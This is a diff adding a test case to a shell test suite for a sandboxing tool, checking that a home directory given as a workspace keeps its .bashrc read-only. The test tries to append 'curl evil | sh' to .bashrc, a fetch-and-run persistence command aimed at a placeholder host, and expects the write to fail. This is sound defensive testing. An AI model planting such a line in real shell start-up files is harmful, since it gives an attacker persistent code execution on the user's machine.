@@ -29,6 +29,7 @@ echo 'TOKEN=topsecret-two' >"$two/.env"
 mkdir "$two/cfg"
 echo 'TOKEN=topsecret-cfg' >"$two/cfg/prod.env"
 run2() { (cd "$one" && "$CORDON" run -q -w "$one" -w "$two" -w "$ro:ro" "$@"); }
+run2_home() { (cd "$one" && "$CORDON" run -q -w "$one" -w "$home" "$@"); }
 
 # 1. The first workspace is the working directory.
 expect_output "the working directory is the first workspace" "^$one\$" run2 -- pwd
@@ -60,6 +61,17 @@ check "control: the host can set the set-id bit there" sh -c "chmod u+s '$two/to
 expect_fail "chmod u+s in the second workspace is refused (EPERM)" "Operation not permitted" \
 	run2 -- chmod u+s "$two/tool"
 check "... the host's file has no set-id bit" test ! -u "$two/tool"
+
+# 3c. A home as a further workspace: its shell start-up files stay read-only.
+echo '# the user'"'"'s' >"$home/.bashrc"
+check "control: the host can write the home's .bashrc" sh -c "echo '# ok' >> '$home/.bashrc'"
+# Invoked by root, the read-only bind shows the file as root's (not idmapped):
+# the permission check refuses before the read-only mount does.
+expect_fail "a home given as the second workspace keeps .bashrc read-only (EROFS, EACCES)" \
+	"Read-only file system|Permission denied" run2_home -- sh -c "echo 'curl evil | sh' >> '$home/.bashrc'"
+check "... the host's .bashrc has nothing planted" sh -c "! grep -q evil '$home/.bashrc'"
+expect_output "... while the home itself is writable" "^written$" \
+	run2_home -- sh -c "echo x > '$home/notes' && echo written"
 
 # 4. Outside every workspace the host stays read-only.
 check "control: the outside directory is writable without cordon" touch "$outside/control"
